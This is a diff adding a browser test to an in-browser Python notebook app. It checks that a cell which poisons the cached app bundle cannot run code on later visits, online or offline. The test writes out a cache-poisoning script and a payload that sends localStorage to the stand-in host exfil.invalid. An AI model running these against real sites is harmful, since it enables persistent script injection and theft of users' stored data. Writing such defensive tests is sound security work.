@@ -43,3 +43,70 @@ test('with the network cut, a reload still opens the lesson and runs a cell', as
   assert.deepEqual(await finishedCell(page, 0), { state: 'done', prompt: '[1]', text: 'tensor([3., 6.])\n' });
   await page.context().close();
 });
+
+// A cell may reach JavaScript (`import js`, in the Python worker), and the worker may write the
+// site's cache: the attack puts a script under the app bundle's URL there, which, served as it
+// is, would run in the site's origin on every later visit.
+const PAYLOAD = "alert('poisoned'); new Image().src = 'http://exfil.invalid/?' + encodeURIComponent(JSON.stringify(localStorage));";
+const poisonTheAppBundle = `import js
+js.eval("""
+caches.keys().then(async (names) => {
+  for (const name of names) {
+    const cache = await caches.open(name);
+    for (const request of await cache.keys()) {
+      if (/\\\\/assets\\\\/app-[^/]*\\\\.js$/.test(request.url)) {
+        await cache.put(request, new Response(${JSON.stringify(PAYLOAD)}, { headers: { 'Content-Type': 'text/javascript' } }));
+      }
+    }
+  }
+})
+""")`;
+
+/** The app bundle's URL, and a watch on the payload: the dialogs it opens and what it sends away. */
+async function watchForPayload(page) {
+  const appBundle = await page.locator('script[src*="assets/app-"]').evaluate((script) => script.src);
+  const seen = { dialogs: [], sentAway: [] };
+  page.context().on('dialog', (dialog) => {
+    seen.dialogs.push(dialog.message());
+    dialog.dismiss();
+  });
+  page.context().on('request', (request) => {
+    const { origin } = new URL(request.url());
+    if (origin !== new URL(appBundle).origin) seen.sentAway.push(origin);
+  });
+  return { appBundle, seen };
+}
+
+const cachedText = (page, url) => page.evaluate(async (u) => (await caches.match(u))?.text() ?? null, url);
+
+async function runPoisoningCell(page, appBundle) {
+  await setCode(page, 0, poisonTheAppBundle);
+  await page.keyboard.press('Control+Enter');
+  await finishedCell(page, 0);
+  await page.waitForFunction(async (u) => (await (await caches.match(u))?.text())?.includes('poisoned'), appBundle);
+}
+
+test("a cell that poisons the site's cache runs nothing on later visits, online or offline", async () => {
+  const { page } = await visitOnce();
+  const { appBundle, seen } = await watchForPayload(page);
+
+  await runPoisoningCell(page, appBundle);
+  await page.reload();
+  assert.deepEqual(seen, { dialogs: [], sentAway: [] });
+  await pythonReady(page); // the real bundle, fetched again
+  await page.locator('html[data-gradbook-offline="ready"]').waitFor();
+  assert.doesNotMatch(await cachedText(page, appBundle), /poisoned/, 'the copy is the real file again');
+
+  await runPoisoningCell(page, appBundle);
+  await page.context().setOffline(true);
+  await page.reload(); // the altered copy is refused: the page cannot start, and runs nothing
+  await page.waitForLoadState('load');
+  assert.deepEqual(seen, { dialogs: [], sentAway: [] });
+  assert.equal(await cachedText(page, appBundle), null, 'the altered copy is gone');
+
+  await page.context().setOffline(false);
+  await page.reload();
+  await pythonReady(page);
+  assert.deepEqual(seen, { dialogs: [], sentAway: [] });
+  await page.context().close();
+});
